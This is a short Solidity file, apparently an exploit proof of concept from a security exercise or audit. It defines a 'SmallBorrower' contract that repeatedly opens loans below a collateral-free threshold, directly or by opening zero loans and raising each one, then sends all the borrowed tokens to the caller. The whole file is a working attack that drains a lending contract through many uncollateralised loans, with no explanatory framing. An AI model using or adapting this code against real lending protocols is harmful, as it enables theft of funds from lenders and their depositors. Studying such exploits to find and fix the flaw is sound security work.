// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IOffice {
    function open(uint256 amount) external payable returns (uint256);

    function raise(uint256 id, uint256 amount) external;
}

interface IToken {
    function transfer(address to, uint256 value) external returns (bool);

    function balanceOf(address account) external view returns (uint256);
}

/// Borrows less than a lot at a time, for which no collateral is asked.
contract SmallBorrower {
    function run(IOffice office, IToken dollar, uint256 amount, uint256 times) external {
        for (uint256 i = 0; i < times; i++) office.open(amount);
        dollar.transfer(msg.sender, dollar.balanceOf(address(this)));
    }

    function runByRaising(IOffice office, IToken dollar, uint256 amount, uint256 times) external {
        for (uint256 i = 0; i < times; i++) office.raise(office.open(0), amount);
        dollar.transfer(msg.sender, dollar.balanceOf(address(this)));
    }
}
